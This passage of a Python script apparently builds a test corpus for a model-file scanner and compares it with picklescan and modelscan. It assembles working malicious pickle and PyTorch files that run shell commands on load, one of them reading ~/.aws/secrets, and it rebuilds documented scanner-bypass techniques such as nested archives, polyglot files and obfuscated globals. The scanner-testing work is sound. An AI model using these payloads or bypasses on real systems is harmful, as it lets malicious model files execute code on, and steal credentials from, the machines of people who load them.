    add("malicious8.pkl", "malicious", "subprocess.run(['ls', '-l'])", "CRITICAL subprocess.run",
        dumps(Reduce(subprocess.run, (["ls", "-l"],)), 4))
    add("malicious9.pkl", "malicious", "sys.exit(0)", "CRITICAL sys.exit", dumps(Reduce(sys.exit, (0,)), 4))
    add("malicious10.pkl", "malicious", "INST __builtin__ exec (protocol 0)", "CRITICAL __builtin__.exec",
        asm("""
MARK
STRING 'print("Injection running")'
INST '__builtin__ exec'
STOP
"""))
    add("malicious11.pkl", "malicious", "imaginaryctf 'Safe Pickle': os/system hidden behind PUT/GET, STACK_GLOBAL "
        "without PROTO", "CRITICAL os.system", asm(PICKLESCAN_LISTINGS["data/malicious11.pkl"]))
    inner = asm("""
PROTO 5
GLOBAL 'os system'
UNICODE 'echo pwned!!!'
TUPLE1
REDUCE
STOP
""")
    add("malicious12.pkl", "malicious", "pickle.loads of a nested pickle (BINBYTES) that calls os.system",
        "CRITICAL pickle.loads", asm("""
PROTO 5
GLOBAL 'pickle loads'
BINBYTES %r
TUPLE1
REDUCE
POP
NONE
STOP
""" % inner))
    add("malicious13.pkl", "malicious", "GLOBAL builtins 'eval.__call__': a dotted name through GLOBAL",
        "CRITICAL builtins.eval.__call__", asm("""
PROTO 5
GLOBAL 'builtins eval.__call__'
UNICODE '__import__("os").system("echo pwned!!!")'
TUPLE1
REDUCE
STOP
"""))
    add("malicious14.pkl", "malicious", "malicious11 followed by junk bytes after STOP",
        "CRITICAL os.system", asm(PICKLESCAN_LISTINGS["data/malicious11.pkl"]) + b"\n\n\t\t")
    add("malicious15.pkl", "malicious", "bdb.Bdb.run(Bdb(), code) at protocol 4 (dotted STACK_GLOBAL 'bdb' 'Bdb.run')",
        "CRITICAL bdb.Bdb.run, bdb.Bdb", dumps(Reduce(bdb.Bdb.run, (bdb.Bdb(), 'import os\nos.system("whoami")')), 4))
    add("malicious1.zip", "malicious", "zip holding data.pkl that calls eval", "CRITICAL builtins.eval (test.zip:data.pkl)",
        zip_bytes([("data.pkl", dumps(eval1, 4))]))
    add("password_protected.zip", "benign", "ZipCrypto-encrypted empty test.txt",
        "skipped with a note (password protected), not an issue", zip_bytes([("test.txt", b"")], crypt_pwd=b"password"),
        upstream="tests/data/password_protected.zip")
    add("bad_pytorch.pt", "benign", "PNG signature in a .pt file", "scan error 'not a valid PyTorch file', no issue",
        b"\x89PNG\r\n\x1a\n")
    sd = small_state_dict()
    add("safe_zip_pytorch.pt", "benign", "torch.save of a state dict, zip format", "no issues", torch_save(sd, True))
    add("safe_old_format_pytorch.pt", "benign", "torch.save of a state dict, legacy format", "no issues",
        torch_save(sd, False))
    add("unsafe_zip_pytorch.pt", "malicious", "torch zip whose data.pkl calls posix.system before the OrderedDict",
        "CRITICAL posix.system (unsafe_zip_pytorch/data.pkl)",
        zip_bytes([("unsafe_zip_pytorch/data.pkl", asm(MS_UNSAFE_ZIP_PYTORCH_PKL)),
                   ("unsafe_zip_pytorch/byteorder", b"little"), ("unsafe_zip_pytorch/version", b"3\n"),
                   ("unsafe_zip_pytorch/.data/serialization_id", b"0361162702521463308600000021836735972839")]),
        upstream="tests/data/unsafe_zip_pytorch.pt")
    add("safe_numpy.npy", "benign", "np.save of [[1, 2, 3], [4, 5, 6]]: no pickle", "no issues",
        np_save(np.array([[1, 2, 3], [4, 5, 6]])))
    add("unsafe_numpy.npy", "malicious", "a raw protocol-4 pickle (not .npy format) with exec(code) injected "
        "before the pickled int array", "CRITICAL builtins.exec",
        injected(np.array([[1, 2, 3], [4, 5, 6]]), [Reduce(exec, ('print("Malicious code!")',))]))
    add("pytorch_sentiment_unsafe.pt", "malicious", "torch.save(state_dict, pickle_module=<injecting pickler>): "
        "data.pkl calls os.system before the state dict", "CRITICAL posix.system",
        torch_save(sd, True, injecting_module([Reduce(os.system, ("cat ~/.aws/secrets",))])),
        upstream="notebooks/pytorch_sentiment_analysis.ipynb + notebooks/utils/pickle_codeinjection.py")
    return out


MS_SKIPPED = [
    dict(file="modelscan/*.dill", upstream="tests/test_modelscan.py (benign0_v*.dill, malicious1_v*.dill)",
         reason="dill is not installed here; its files for these objects carry the same globals as the .pkl ones"),
    dict(file="modelscan: keras/tensorflow/h5 models", upstream="tests/test_modelscan.py",
         reason="not pickle formats: ckpt does not read them and torch.load cannot load them"),
]


# ---- documented misses ----------------------------------------------------------
# Bypasses picklescan's and modelscan's own issues and advisories document,
# for which their test corpora have no file. Each is rebuilt from the
# report's description (opcodes shown in the report, or the described
# call); "upstream" names the report.


def documented_entries():
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import mailcap
    out = []

    def add(name, source, does, says, data):
        out.append(dict(file="documented/" + name, corpus="documented", upstream=source, expected="malicious",
                        does=does, upstream_says=says, identical_to_upstream=False, data=data))
        if "issues/330" in source:  # the report gives the file's hex: these are its bytes
            out[-1]["identical_to_upstream"] = True

    add("modelscan-85_build_overwrite.pkl", "https://github.com/protectai/modelscan/issues/85",
        "BUILD writes 'os'/'system' into numpy.prod's attributes; GLOBAL numpy prod.a / prod.b read them back and "
        "STACK_GLOBAL calls os.system", "modelscan: no issue found (issue open)", asm("""
PROTO 5
GLOBAL 'numpy prod'
NONE
MARK
UNICODE 'a'
UNICODE 'os'
DICT
TUPLE2
BUILD
NONE
MARK
UNICODE 'b'
UNICODE 'system'
DICT
TUPLE2
BUILD
POP
GLOBAL 'numpy prod.a'
PUT 0
GLOBAL 'numpy prod.b'
PUT 1
POP
POP
GET 0
GET 1
STACK_GLOBAL
UNICODE 'echo pwned!!!'
TUPLE1
REDUCE
STOP
"""))
    add("modelscan-330_numpy_builtins.pkl", "https://github.com/protectai/modelscan/issues/330",
        "STACK_GLOBAL numpy.__builtins__ (an allowed module's namespace), BUILD, then eval taken from it",
        "modelscan: no issues (issue open)", asm("""
PROTO 4
FRAME 102
SHORT_BINUNICODE 'numpy'
SHORT_BINUNICODE 'size'
STACK_GLOBAL
MEMOIZE
MEMOIZE
SHORT_BINUNICODE 'numpy'
SHORT_BINUNICODE '__builtins__'
STACK_GLOBAL
MEMOIZE
MEMOIZE
BINGET 1
EMPTY_DICT
EMPTY_DICT
SHORT_BINUNICODE 'shape'
BINGET 3
SETITEM
TUPLE2
BUILD
BINGET 1
BINGET 1
SHORT_BINUNICODE 'eval'
TUPLE2
REDUCE
SHORT_BINUNICODE '__import__("os").system("id")'
TUPLE1
REDUCE
STOP
"""))
    join = """
BINGET 2
BINGET 2
BINGET 1
SHORT_BINUNICODE 'str'
TUPLE2
REDUCE
SHORT_BINUNICODE 'join'
TUPLE2
REDUCE
SHORT_BINUNICODE ''
EMPTY_LIST
MARK
%s
APPENDS
TUPLE2
REDUCE
"""
    letters = lambda w: "\n".join("SHORT_BINUNICODE %r" % c for c in w)
    add("modelscan-331_importlib_join.pkl", "https://github.com/protectai/modelscan/issues/331",
        "importlib.import_module + builtins.getattr; 'os' and 'system' are joined from letters at load time",
        "modelscan: no issues (issue open)", asm("""
PROTO 4
SHORT_BINUNICODE 'importlib'
SHORT_BINUNICODE 'import_module'
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'builtins'
TUPLE1
REDUCE
MEMOIZE
SHORT_BINUNICODE 'builtins'
SHORT_BINUNICODE 'getattr'
STACK_GLOBAL
MEMOIZE
""" + join % letters("os") + """
MEMOIZE
BINGET 0
BINGET 3
TUPLE1
REDUCE
MEMOIZE
BINGET 2
BINGET 4
""" + join % letters("system") + """
TUPLE2
REDUCE
SHORT_BINUNICODE 'id'
TUPLE1
REDUCE
STOP
"""))
    nested = b"cbuiltins\nprint\n(S'This pickle has been exploited!'\ntR."
    add("modelscan-267_nested_pickle_loads.pickle", "https://github.com/protectai/modelscan/issues/267",
        "_pickle.loads of a nested pickle", "modelscan v0.8.4: no issue although pickle is on its list",
        asm("""
PROTO 4
SHORT_BINUNICODE '_pickle'
SHORT_BINUNICODE 'loads'
STACK_GLOBAL
SHORT_BINBYTES %r
TUPLE1
REDUCE
STOP
""" % nested))
    for name, mod, fn, args in (
            ("collect_env_run", "torch.utils.collect_env", "run", "SHORT_BINUNICODE 'rm pwnd.txt'\nTUPLE1"),
            ("mlflow_run_entry_point", "mlflow.projects.backend.local", "_run_entry_point",
             "MARK\nSHORT_BINUNICODE 'echo bypass'\nSHORT_BINUNICODE '.'\nSHORT_BINUNICODE ''\n"
             "SHORT_BINUNICODE ''\nTUPLE"),
            ("pandas_read_csv", "pandas.io.parsers.readers", "read_csv",
             "SHORT_BINUNICODE 'https://example.invalid/?pwned=pandas_bypass'\nTUPLE1")):
        add("modelscan-338_%s.pkl" % name, "https://github.com/protectai/modelscan/issues/338 (1. alternative "
            "execution primitives)", "%s.%s(...)" % (mod, fn), "modelscan 0.8.8: no issue (issue open)",
            asm("PROTO 4\nSHORT_BINUNICODE %r\nSHORT_BINUNICODE %r\nSTACK_GLOBAL\n%s\nREDUCE\nSTOP\n" % (mod, fn, args)))
    add("modelscan-338_builtins_introspection.pkl", "https://github.com/protectai/modelscan/issues/338 (introspection "
        "chain)", "GLOBAL builtins 'print.__class__.__base__.__subclasses__': every GLOBAL names only builtins",
        "modelscan 0.8.8: no issue", asm("""
PROTO 2
GLOBAL 'builtins print.__class__.__base__.__subclasses__'
EMPTY_TUPLE
REDUCE
STOP
"""))
    add("modelscan-338_indirect_model_loading.pkl", "https://github.com/protectai/modelscan/issues/338 (11. indirect "
        "model loading)", "transformers getattribute_from_module(AutoTokenizer, 'from_pretrained')('zpbrent/reuse'): "
        "loads another model from the Hub", "modelscan 0.8.8: no issue", asm("""
PROTO 4
SHORT_BINUNICODE 'transformers.models.auto.auto_factory'
SHORT_BINUNICODE 'getattribute_from_module'
STACK_GLOBAL
SHORT_BINUNICODE 'transformers.models.auto.tokenization_auto'
SHORT_BINUNICODE 'AutoTokenizer'
STACK_GLOBAL
SHORT_BINUNICODE 'from_pretrained'
TUPLE2
REDUCE
SHORT_BINUNICODE 'zpbrent/reuse'
TUPLE1
REDUCE
STOP
"""))
    add("modelscan-346_mailcap_findmatch.pkl", "https://github.com/protectai/modelscan/pull/346",
        "mailcap.findmatch(caps, 'text/plain') runs the entry's test command", "modelscan: not on its list (PR open)",
        dumps(Reduce(mailcap.findmatch, ({"text/plain": [{"view": "cat %s", "test": "true"}]}, "text/plain")), 4))

    system_p2 = dumps(Reduce(os.system, ("id",)), 2)
    add("picklescan-CVE-2025-10155_pickle_named.bin", "JFrog, CVE-2025-10155 (picklescan file extension bypass)",
        "a plain pickle calling os.system under a PyTorch extension", "picklescan < 0.0.31: routed to the PyTorch "
        "scanner, which fails; fixed upstream", system_p2)
    sd = small_state_dict()
    benign_zip = torch_save(sd, True)
    import zipfile

    zin = zipfile.ZipFile(io.BytesIO(benign_zip))
    members = [(n, zin.read(n)) for n in zin.namelist()]
    prefix = members[0][0].split("/")[0]
    add("picklescan-GHSA-769v-p64c-89pr_config_json.pt",
        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr (CVE-2025-1889)",
        "torch zip with a benign data.pkl and a pickle calling os.system in %s/config.json, loaded by "
        "torch.load(f, pickle_file='config.json') (see picklescan's malicious19.pkl)" % prefix,
        "picklescan < 0.0.22: only *.pkl entries scanned; fixed upstream",
        zip_bytes(members[:1] + [(prefix + "/config.json", system_p2)] + members[1:]))
    evil_pt = zip_bytes([("archive/data.pkl", system_p2), ("archive/version", b"3\n")])
    add("nested_zip_in_zip.zip", "no upstream statement found; checked because the brief lists nested archives",
        "a zip holding model.pt, a torch zip whose data.pkl calls os.system", "picklescan scans one zip level",
        zip_bytes([("model.pt", evil_pt)]))
    import gzip

    add("gzip_torch_zip.pt.gz", "no upstream statement found; checked because the brief lists nested archives",
        "gzip of a torch zip whose data.pkl calls os.system", "picklescan/modelscan: .gz not scanned",
        gzip.compress(evil_pt, mtime=0))
    add("polyglot_pickle_then_zip.pt", "fickling's polyglot module (format confusion); no picklescan/modelscan "
        "statement found", "a pickle calling os.system followed by a benign torch zip: pickle.load and torch.load's "
        "legacy path run the pickle, zip readers see a zip", "-", system_p2 + benign_zip)
    return out


# ---- report -----------------------------------------------------------------


def report(ckpt):
    """Runs the ckpt CLI on every manifest file (it only reads them) and
    prints the per-corpus table and the per-file appendix in markdown."""
    import subprocess

    m = json.loads((OUT / "manifest.json").read_text())
    rows, per = [], {}
    for e in m["files"]:
        r = subprocess.run([ckpt, "scan", "--json", str(OUT / e["file"])], capture_output=True, text=True)
        rep = json.loads(r.stdout) if r.stdout.strip() else {"verdict": "?", "findings": [], "problems": []}
        # scan's exit rule: 1 for an unsafe global or anything not scanned in
        # full, so a benign file passes when it has no unsafe finding.
        unsafe = rep.get("verdict") == "unsafe"
        ok = r.returncode == 1 and unsafe if e["expected"] == "malicious" else not unsafe and r.returncode in (0, 1, 3)
        seen = ["%s %s" % (f["verdict"], f["global"]) for f in rep.get("findings") or [] if f["verdict"] != "allowed"]
        seen += ["problem: %s" % p["error"].replace(str(OUT) + "/", "") for p in rep.get("problems") or []]
        t = per.setdefault(e["corpus"], [0, 0, 0, 0])
        i = 0 if e["expected"] == "malicious" else 2
        t[i] += ok
        t[i + 1] += 1
        rows.append((e, r.returncode, ok, "; ".join(dict.fromkeys(seen)) or "only allowed globals"))
    print("| corpus | malicious caught (exit 1, unsafe) | benign passed (no unsafe finding) |")
    print("|---|---|---|")
    tot = [0, 0, 0, 0]
    for c in sorted(per):
        t = per[c]
        tot = [a + b for a, b in zip(tot, t)]
        print("| %s | %d / %d | %d / %d |" % (c, t[0], t[1], t[2], t[3]))
    print("| **all** | **%d / %d** | **%d / %d** |" % tuple(tot))
    print()
    print("| file | expected | exit | ok | what ckpt scan reports (beyond allowed globals) | upstream scanner's tests |")
    print("|---|---|---|---|---|---|")
    for e, rc, ok, seen in rows:
        print("| %s | %s | %d | %s | %s | %s |" % (e["file"], e["expected"], rc, "yes" if ok else "**NO**",
                                                 seen.replace("|", "\\|"), e["upstream_says"].replace("|", "\\|")))


# ---- main -------------------------------------------------------------------


def write_entries(out, entries):
    """Writes each entry's data to out/entry["file"] (names must be unique) and
    returns the entries with "data" replaced by its "sha256"."""
    seen = set()
    for e in entries:
        assert e["file"] not in seen, e["file"]
        seen.add(e["file"])
        p = out / e["file"]
        p.parent.mkdir(parents=True, exist_ok=True)
        data = e.pop("data")
        p.write_bytes(data)
        e["sha256"] = hashlib.sha256(data).hexdigest()
    return entries


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--transcribe", metavar="FILE", help="print FILE as an opcode listing and exit")
    ap.add_argument("--offset", type=int, default=0, help="with --transcribe: where the pickle starts")
    ap.add_argument("--check-upstream", metavar="DIR",
                    help="picklescan checkout: check that every listing assembles to its upstream file")
    ap.add_argument("--report", metavar="CKPT",
                    help="run `CKPT scan --json` on every manifest file and print the markdown tables of "
                         "docs/scan-corpora.md")
    args = ap.parse_args()
    if args.transcribe:
        print(transcribe(Path(args.transcribe).read_bytes(), args.offset))
        return
    if args.report:
        report(args.report)
        return
    if args.check_upstream:
        bad = [up for up, lst in PICKLESCAN_LISTINGS.items()
               if asm(lst) != (Path(args.check_upstream) / "tests" / up).read_bytes()]
        print("listings differing from upstream:", bad or "none")
        sys.exit(1 if bad else 0)

    entries = (list(picklescan_entries()) + list(fickling_entries()) + modelscan_entries() +
               documented_entries())
    if OUT.exists():
        shutil.rmtree(OUT)
    manifest = write_entries(OUT, entries)
    doc = {
        "about": "Public scanner corpora rebuilt by scripts/gen_scan_corpora.py; see docs/scan-corpora.md.",
        "upstream": {
            "picklescan": "https://github.com/mmaitre314/picklescan @ f15d54da3dec9aa28a87ede82f87882bb80f1023",
            "fickling": "https://github.com/trailofbits/fickling @ 854c99acd2637f97162dd2e1aa2dab4e8d55d77d",
            "modelscan": "https://github.com/protectai/modelscan @ 8b8ed4bf78a863fcf3b664888dc7ff6ae22f5230",
        },
        "files": manifest,
        "skipped": PS_SKIPPED + FK_SKIPPED + MS_SKIPPED,
    }
    (OUT / "manifest.json").write_text(json.dumps(doc, indent=1) + "\n")
    total = sum((OUT / e["file"]).stat().st_size for e in manifest)
    print("wrote %d files (%d bytes) and manifest.json to %s" % (len(manifest), total, OUT))


if __name__ == "__main__":
    main()
